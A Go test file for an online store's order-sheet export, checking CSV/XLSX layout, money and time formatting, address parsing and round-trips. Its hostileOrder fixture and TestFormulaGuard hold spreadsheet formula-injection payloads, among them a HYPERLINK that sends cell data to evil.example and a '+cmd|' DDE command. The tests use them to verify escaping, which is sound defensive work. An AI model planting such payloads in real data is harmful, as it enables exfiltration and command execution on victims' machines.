package ordersheet

import (
	"bytes"
	"encoding/json"
	"io"
	"math"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"storeadmin/internal/base/sheets"
)

func ptr[T any](v T) *T { return &v }

var (
	berlin  = mustLocation("Europe/Berlin")
	created = time.Date(2026, 11, 21, 14, 3, 0, 0, time.UTC)
)

func mustLocation(name string) *time.Location {
	loc, err := time.LoadLocation(name)
	if err != nil {
		panic(err)
	}
	return loc
}

// twoOrders: an order of two lines with everything filled, and an order
// without lines or customer.
func twoOrders() []Order {
	paid := created.Add(time.Minute)
	shipped := created.Add(26 * time.Hour)
	return []Order{
		{
			ID: 42, Name: "#1001", Email: "ana@example.com", FinancialStatus: "partially_refunded", PaidAt: &paid,
			FulfillmentStatus: "fulfilled", FulfilledAt: &shipped, AcceptsMarketing: ptr(true), Currency: "EUR",
			SubtotalCents: 4400, ShippingCents: 495, TaxCents: 836, TotalCents: 5291, DiscountCode: "WELCOME10",
			DiscountCents: 440, ShippingMethod: "Standard", CreatedAt: created,
			Billing: Address{Name: "Ana Lima", Address1: "Hauptstr. 1", Address2: "2. OG", Company: "Lima GmbH",
				City: "Berlin", Zip: "01067", Province: "BE", Country: "DE", Phone: "+49 30 1234567"},
			Shipping:      Address{Name: "Ana Lima", Address1: "Hauptstr. 1", City: "Berlin", Zip: "01067", Country: "DE"},
			Note:          "Leave at the door",
			PaymentMethod: "stripe", PaymentReference: "pi_3Nx", RefundedCents: 1250,
			Tags: []string{"vip", "upsell"}, Source: "web", TipCents: 200, Phone: "+49 30 1234567",
			Status: "open", UTMSource: "newsletter", UTMMedium: "email", UTMCampaign: "black-friday",
			Lines: []Line{
				{Quantity: 2, Title: "Classic Tee", VariantTitle: "M / Black", SKU: "TEE-M-BLK", PriceCents: 1900,
					CompareAtCents: ptr(int64(2500)), RequiresShipping: true, FulfilledQuantity: 2, Vendor: "Acme Apparel"},
				{Quantity: 1, Title: "Gift Card", VariantTitle: "Default Title", PriceCents: 600, RefundedQuantity: 1},
			},
		},
		{
			ID: 43, Name: "#1002", Email: "ben@example.com", FinancialStatus: "pending", FulfillmentStatus: "unfulfilled",
			Currency: "EUR", CreatedAt: created.Add(time.Hour), Status: "cancelled", CancelReason: "customer",
			CancelledAt: ptr(created.Add(2 * time.Hour)),
		},
	}
}

func TestHeader(t *testing.T) {
	h := Header()
	if len(h) != numCols {
		t.Fatalf("%d header cells for %d columns", len(h), numCols)
	}
	// The positions the code writes to carry the names they mean.
	for col, name := range map[int]string{
		colName: "Name", colCreatedAt: "Created at", colLineQuantity: "Lineitem quantity",
		colLineFulfillmentStatus: "Lineitem fulfillment status", colBillingName: "Billing Name",
		colBillingName + addressCols - 1: "Billing Phone", colShippingName: "Shipping Name",
		colShippingName + addressCols - 1: "Shipping Phone", colNotes: "Notes", colVendor: "Vendor",
		colID: "Id", colTip: "Tip", colUTMCampaign: "UTM campaign",
	} {
		if h[col] != name {
			t.Errorf("column %d is %q, want %q", col, h[col], name)
		}
	}
	// Shopify's order export starts like this; tools locate it by these.
	want := "Name,Email,Financial Status,Paid at,Fulfillment Status,Fulfilled at,Accepts Marketing,Currency," +
		"Subtotal,Shipping,Taxes,Total,Discount Code,Discount Amount,Shipping Method,Created at,Lineitem quantity," +
		"Lineitem name,Lineitem price,Lineitem compare at price,Lineitem sku,Lineitem requires shipping"
	if got := strings.Join(h[:22], ","); got != want {
		t.Errorf("header starts\n%s\nwant\n%s", got, want)
	}
	seen := map[string]bool{}
	for _, c := range h {
		if seen[sheets.HeaderKey(c)] {
			t.Errorf("column %q twice", c)
		}
		seen[sheets.HeaderKey(c)] = true
	}
	h[0] = "changed"
	if Header()[0] != "Name" {
		t.Error("Header must return a copy")
	}
}

// cells maps a row to header name → cell, leaving out empty cells.
func cells(row []string) map[string]string {
	m := map[string]string{}
	for i, c := range row {
		if c != "" {
			m[header[i]] = c
		}
	}
	return m
}

func TestRowsLayout(t *testing.T) {
	rows := Rows(twoOrders(), berlin)
	if len(rows) != 3 {
		t.Fatalf("%d rows, want 3 (two lines, one order without lines)", len(rows))
	}
	for i, r := range rows {
		if len(r) != numCols {
			t.Fatalf("row %d has %d cells", i, len(r))
		}
	}
	first := map[string]string{
		"Name": "#1001", "Email": "ana@example.com", "Financial Status": "partially_refunded",
		"Paid at": "2026-11-21 15:04:00 +0100", "Fulfillment Status": "fulfilled",
		"Fulfilled at": "2026-11-22 17:03:00 +0100", "Accepts Marketing": "yes", "Currency": "EUR",
		"Subtotal": "44.00", "Shipping": "4.95", "Taxes": "8.36", "Total": "52.91", "Discount Code": "WELCOME10",
		"Discount Amount": "4.40", "Shipping Method": "Standard", "Created at": "2026-11-21 15:03:00 +0100",
		"Lineitem quantity": "2", "Lineitem name": "Classic Tee - M / Black", "Lineitem price": "19.00",
		"Lineitem compare at price": "25.00", "Lineitem sku": "TEE-M-BLK", "Lineitem requires shipping": "true",
		"Lineitem fulfillment status": "fulfilled",
		"Billing Name":                "Ana Lima", "Billing Street": "Hauptstr. 1, 2. OG", "Billing Address1": "Hauptstr. 1",
		"Billing Address2": "2. OG", "Billing Company": "Lima GmbH", "Billing City": "Berlin", "Billing Zip": "01067",
		"Billing Province": "BE", "Billing Country": "DE", "Billing Phone": "+49 30 1234567",
		"Shipping Name": "Ana Lima", "Shipping Street": "Hauptstr. 1", "Shipping Address1": "Hauptstr. 1",
		"Shipping City": "Berlin", "Shipping Zip": "01067", "Shipping Country": "DE",
		"Notes": "Leave at the door", "Payment Method": "stripe", "Payment Reference": "pi_3Nx",
		"Refunded Amount": "12.50", "Vendor": "Acme Apparel", "Id": "42", "Tags": "vip, upsell", "Source": "web",
		"Tip": "2.00", "Phone": "+49 30 1234567", "Order status": "open", "UTM source": "newsletter",
		"UTM medium": "email", "UTM campaign": "black-friday",
	}
	if got := cells(rows[0]); !reflect.DeepEqual(got, first) {
		t.Errorf("first row\n got %v\nwant %v", got, first)
	}
	// The order's second line: only what identifies the order, and the line.
	second := map[string]string{
		"Name": "#1001", "Email": "ana@example.com", "Created at": "2026-11-21 15:03:00 +0100", "Id": "42",
		"Lineitem quantity": "1", "Lineitem name": "Gift Card", "Lineitem price": "6.00",
		"Lineitem requires shipping": "false", "Lineitem fulfillment status": "refunded",
	}
	if got := cells(rows[1]); !reflect.DeepEqual(got, second) {
		t.Errorf("second row\n got %v\nwant %v", got, second)
	}
	// An order without lines still has its row; zero amounts are written.
	third := map[string]string{
		"Name": "#1002", "Email": "ben@example.com", "Financial Status": "pending", "Fulfillment Status": "unfulfilled",
		"Currency": "EUR", "Subtotal": "0.00", "Shipping": "0.00", "Taxes": "0.00", "Total": "0.00",
		"Discount Amount": "0.00", "Created at": "2026-11-21 16:03:00 +0100", "Cancelled at": "2026-11-21 17:03:00 +0100",
		"Refunded Amount": "0.00", "Id": "43", "Tip": "0.00", "Order status": "cancelled", "Cancel reason": "customer",
	}
	if got := cells(rows[2]); !reflect.DeepEqual(got, third) {
		t.Errorf("third row\n got %v\nwant %v", got, third)
	}
	if Rows(nil, nil) == nil || len(Rows(nil, nil)) != 0 {
		t.Error("no orders: no rows")
	}
}

// TestOrderColumnsOnFirstRowOnly: summing a money column of the sheet
// counts each order once, however many lines it has.
func TestOrderColumnsOnFirstRowOnly(t *testing.T) {
	o := twoOrders()[0] // every order column filled
	o.Shipping, o.CancelledAt, o.CancelReason = o.Billing, ptr(created.Add(time.Hour)), "other"
	for i := range 5 {
		o.Lines = append(o.Lines, Line{Quantity: int64(i + 1), Title: "Extra", PriceCents: 100})
	}
	rows := Rows([]Order{o}, time.UTC)
	if len(rows) != 7 {
		t.Fatalf("%d rows", len(rows))
	}
	everyRow := map[int]bool{colName: true, colEmail: true, colCreatedAt: true, colID: true, colVendor: true}
	for c := colLineQuantity; c <= colLineFulfillmentStatus; c++ {
		everyRow[c] = true
	}
	for c := range numCols {
		if everyRow[c] {
			continue
		}
		if rows[0][c] == "" {
			t.Errorf("first row: %s is empty", header[c])
		}
		for r := 1; r < len(rows); r++ {
			if rows[r][c] != "" {
				t.Errorf("row %d repeats the order's %s: %q", r, header[c], rows[r][c])
			}
		}
	}
	for r := range rows {
		if rows[r][colName] != "#1001" || rows[r][colID] != "42" || rows[r][colCreatedAt] != "2026-11-21 14:03:00 +0000" {
			t.Errorf("row %d does not name its order: %q %q %q", r, rows[r][colName], rows[r][colID], rows[r][colCreatedAt])
		}
	}
}

func TestFormatMoney(t *testing.T) {
	for _, c := range []struct {
		minor    int64
		currency string
		want     string
	}{
		{1250, "USD", "12.50"},
		{5, "USD", "0.05"},
		{0, "EUR", "0.00"},
		{100, "eur", "1.00"},
		{-1999, "USD", "-19.99"},
		{-5, "USD", "-0.05"},
		{123456789012, "USD", "1234567890.12"},
		{1200, "JPY", "1200"},
		{0, "KRW", "0"},
		{-300, "jpy", "-300"},
		{1250, "KWD", "1.250"},
		{7, "BHD", "0.007"},
		{12345, "CLF", "1.2345"},
		{1250, "", "12.50"},
		{1250, "XYZ", "12.50"},
		{math.MaxInt64, "USD", "92233720368547758.07"},
		{math.MinInt64, "USD", "-92233720368547758.08"},
	} {
		if got := FormatMoney(c.minor, c.currency); got != c.want {
			t.Errorf("FormatMoney(%d, %q) = %q, want %q", c.minor, c.currency, got, c.want)
		}
	}
	// Amounts are numbers to a spreadsheet, never text or formulas.
	o := twoOrders()[0]
	o.Currency = "JPY"
	o.TotalCents = 5291
	row := Rows([]Order{o}, nil)[0]
	if row[colTotal] != "5291" || row[colLinePrice] != "1900" {
		t.Errorf("yen amounts: total %q price %q", row[colTotal], row[colLinePrice])
	}
}

func TestFormatTime(t *testing.T) {
	tokyo := mustLocation("Asia/Tokyo")
	for _, c := range []struct {
		t    *time.Time
		loc  *time.Location
		want string
	}{
		{&created, time.UTC, "2026-11-21 14:03:00 +0000"},
		{&created, nil, "2026-11-21 14:03:00 +0000"},
		{&created, berlin, "2026-11-21 15:03:00 +0100"},
		{ptr(time.Date(2026, 7, 1, 22, 30, 5, 999, time.UTC)), berlin, "2026-07-02 00:30:05 +0200"},
		{&created, tokyo, "2026-11-21 23:03:00 +0900"},
		{nil, berlin, ""},
		{&time.Time{}, berlin, ""},
	} {
		if got := FormatTime(c.t, c.loc); got != c.want {
			t.Errorf("FormatTime(%v, %v) = %q, want %q", c.t, c.loc, got, c.want)
		}
	}
}

func TestLineNameAndFulfillmentStatus(t *testing.T) {
	for _, c := range [][3]string{
		{"Classic Tee", "M / Black", "Classic Tee - M / Black"},
		{"Gift Mug", "", "Gift Mug"},
		{"Gift Mug", "Default Title", "Gift Mug"},
		{"", "Large", "Large"},
	} {
		if got := LineName(c[0], c[1]); got != c[2] {
			t.Errorf("LineName(%q, %q) = %q, want %q", c[0], c[1], got, c[2])
		}
	}
	for _, c := range []struct {
		qty, refunded, fulfilled int64
		want                     string
	}{
		{2, 0, 0, "pending"},
		{2, 0, 1, "partial"},
		{2, 0, 2, "fulfilled"},
		{3, 1, 2, "fulfilled"}, // what was not refunded has shipped
		{3, 1, 1, "partial"},
		{2, 2, 0, "refunded"},
		{2, 1, 0, "pending"},
	} {
		l := Line{Quantity: c.qty, RefundedQuantity: c.refunded, FulfilledQuantity: c.fulfilled}
		if got := LineFulfillmentStatus(l); got != c.want {
			t.Errorf("quantity %d refunded %d fulfilled %d: %q, want %q", c.qty, c.refunded, c.fulfilled, got, c.want)
		}
	}
}

func TestAddressFrom(t *testing.T) {
	full := map[string]any{
		"first_name": "Ana", "last_name": "Lima", "company": "Lima GmbH", "address1": " Hauptstr. 1 ",
		"address2": "2. OG", "city": "Berlin", "province": "Berlin", "province_code": "BE", "zip": "01067",
		"country": "Germany", "country_code": "DE", "phone": "+49 30 1234567",
	}
	want := Address{Name: "Ana Lima", Address1: "Hauptstr. 1", Address2: "2. OG", Company: "Lima GmbH", City: "Berlin",
		Zip: "01067", Province: "BE", Country: "DE", Phone: "+49 30 1234567"}
	if got := AddressFrom(full); got != want {
		t.Errorf("full address\n got %+v\nwant %+v", got, want)
	}
	raw, _ := json.Marshal(full)
	if got := AddressFrom(json.RawMessage(raw)); got != want {
		t.Errorf("from JSON: %+v", got)
	}

	for name, c := range map[string]struct {
		in   any
		want Address
	}{
		"nil":        {nil, Address{}},
		"not object": {[]any{"x"}, Address{}},
		"bad json":   {[]byte("{"), Address{}},
		"empty":      {map[string]any{}, Address{}},
		"name key wins": {map[string]any{"name": "Ana L.", "first_name": "Ana", "last_name": "Lima"},
			Address{Name: "Ana L."}},
		"first name only": {map[string]any{"first_name": "Ana", "last_name": nil}, Address{Name: "Ana"}},
		"last name only":  {map[string]any{"last_name": "Lima"}, Address{Name: "Lima"}},
		"names without codes": {map[string]any{"province": "Ontario", "country": "Canada"},
			Address{Province: "Ontario", Country: "Canada"}},
		"numbers and odd values": {map[string]any{"zip": float64(10115), "phone": json.Number("4930123"),
			"city": map[string]any{"x": 1}, "address1": true}, Address{Zip: "10115", Phone: "4930123", Address1: "true"}},
		"strings map": {map[string]string{"city": "Lyon", "zip": "69001"}, Address{City: "Lyon", Zip: "69001"}},
		"json string": {`{"city":"Porto","zip":"4000-001"}`, Address{City: "Porto", Zip: "4000-001"}},
	} {
		if got := AddressFrom(c.in); got != c.want {
			t.Errorf("%s: got %+v, want %+v", name, got, c.want)
		}
	}

	for a, want := range map[Address]string{
		{}:                                  "",
		{Address1: "1 Main St"}:             "1 Main St",
		{Address2: "Unit 4"}:                "Unit 4",
		{Address1: "1 Main", Address2: "4"}: "1 Main, 4",
	} {
		if got := a.Street(); got != want {
			t.Errorf("Street(%+v) = %q, want %q", a, got, want)
		}
	}
}

func TestShippingMethodFrom(t *testing.T) {
	for _, c := range []struct {
		in   any
		want string
	}{
		{map[string]any{"title": "Express", "code": "EXP", "price_cents": float64(995)}, "Express"},
		{map[string]any{"code": "EXP"}, "EXP"},
		{nil, ""},
		{"not json", ""},
	} {
		if got := ShippingMethodFrom(c.in); got != c.want {
			t.Errorf("ShippingMethodFrom(%v) = %q, want %q", c.in, got, c.want)
		}
	}
}

// hostileOrder has text from shoppers that a spreadsheet would run as a
// formula if written as it is.
func hostileOrder() Order {
	o := twoOrders()[0]
	o.Email = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
	o.Note = "+cmd|' /C calc'!A0"
	o.Billing.Name = "@SUM(1+1)"
	o.Shipping.City = "-2+3"
	o.Lines[0].Title = "=1+1"
	o.Tags = []string{"-vip"}
	return o
}

// TestFormulaGuard: the CSV escapes every cell a spreadsheet would run,
// numbers stay numbers, and the sheets reader gives back what was written.
func TestFormulaGuard(t *testing.T) {
	rows := Rows([]Order{hostileOrder()}, nil)
	var buf bytes.Buffer
	if err := sheets.WriteCSV(&buf, Header(), rows); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
		`'+cmd|' /C calc'!A0`,
		`'@SUM(1+1)`,
		`'-2+3`,
		`'=1+1 - M / Black`,
		`'-vip`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("CSV lacks %s:\n%s", want, out)
		}
	}
	for _, bad := range []string{",=", ",+cmd", ",@SUM", ",-2+3", ",-vip"} {
		if strings.Contains(out, bad) {
			t.Errorf("CSV has an unguarded cell %s", bad)
		}
	}
	tbl, err := sheets.Read(&buf, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(tbl.Header, Header()) || !reflect.DeepEqual(tbl.Rows, rows) {
		t.Errorf("read back\n got %q\nwant %q", tbl.Rows, rows)
	}
}

// TestRoundTrip writes both formats and reads them back with the sheets
// reader: every cell of a CSV comes back as written, and so does every text
// cell of a workbook (a zip with a leading zero stays text); a workbook's
// typed cells come back as a spreadsheet shows them: amounts with the
// currency and their decimals, times without their offset, flags as
// TRUE/FALSE.
func TestRoundTrip(t *testing.T) {
	orders := append(twoOrders(), hostileOrder())
	orders[2].ID, orders[2].Name = 44, "#1003"
	orders[2].Lines[1].Title = "Crème brûlée — ünïcödé, \"quoted\"\nsecond line"
	rows := Rows(orders, berlin)
	for _, format := range []string{"csv", "xlsx"} {
		t.Run(format, func(t *testing.T) {
			var buf bytes.Buffer
			var err error
			if format == "csv" {
				err = sheets.WriteCSV(&buf, Header(), rows)
			} else {
				err = sheets.WriteXLSX(&buf, "orders", Header(), rows, sheets.Layout{Types: Types(), Currency: "EUR"})
			}
			if err != nil {
				t.Fatal(err)
			}
			tbl, err := sheets.Read(&buf, 8<<20)
			if err != nil {
				t.Fatal(err)
			}
			if tbl.Format != format {
				t.Fatalf("read back as %s", tbl.Format)
			}
			if !reflect.DeepEqual(tbl.Header, Header()) {
				t.Errorf("header\n got %q\nwant %q", tbl.Header, Header())
			}
			if len(tbl.Rows) != len(rows) {
				t.Fatalf("%d rows read, %d written", len(tbl.Rows), len(rows))
			}
			want := rows
			if format == "xlsx" {
				want = shownInXLSX(rows)
			}
			for i := range rows {
				if !reflect.DeepEqual(tbl.Rows[i], want[i]) {
					t.Errorf("row %d\n got %q\nwant %q", i, tbl.Rows[i], want[i])
				}
			}
			if c := tbl.Col("Billing Zip"); c < 0 || tbl.Rows[0][c] != "01067" {
				t.Errorf("zip came back as %q", tbl.Rows[0][c])
			}
		})
	}
}

// shownInXLSX is rows as a spreadsheet shows the typed cells of the
// orders sheet of a store in euros.
func shownInXLSX(rows [][]string) [][]string {
	types := Types()
	out := make([][]string, len(rows))
	for i, row := range rows {
		out[i] = slices.Clone(row)
		for c, s := range row {
			switch {
			case s == "":
			case types[c] == sheets.Money && strings.HasPrefix(s, "-"):
				out[i][c] = "-€" + group(s[1:])
			case types[c] == sheets.Money:
				out[i][c] = "€" + group(s)
			case types[c] == sheets.Time:
				out[i][c] = s[:len("2006-01-02 15:04:05")]
			case types[c] == sheets.Bool:
				b, _ := sheets.ParseBool(s)
				out[i][c] = strings.ToUpper(strconv.FormatBool(b))
			}
		}
	}
	return out
}

// group puts thousands separators in an amount: 1234.50 is 1,234.50.
func group(s string) string {
	whole, frac, _ := strings.Cut(s, ".")
	for i := len(whole) - 3; i > 0; i -= 3 {
		whole = whole[:i] + "," + whole[i:]
	}
	return whole + "." + frac
}

func BenchmarkRows(b *testing.B) {
	orders := make([]Order, 1000)
	for i := range orders {
		orders[i] = twoOrders()[0]
		orders[i].ID = int64(i)
	}
	b.ReportAllocs()
	for b.Loop() {
		Rows(orders, berlin)
	}
}

// BenchmarkWriteXLSX writes the sheet of 1,000 orders as a workbook with
// typed cells, what an XLSX export does after reading the orders.
func BenchmarkWriteXLSX(b *testing.B) {
	orders := make([]Order, 1000)
	for i := range orders {
		orders[i] = twoOrders()[0]
		orders[i].ID = int64(i)
	}
	rows := Rows(orders, berlin)
	layout := sheets.Layout{Types: Types(), Currency: "EUR"}
	b.ReportAllocs()
	for b.Loop() {
		if err := sheets.WriteXLSX(io.Discard, "orders", Header(), rows, layout); err != nil {
			b.Fatal(err)
		}
	}
}
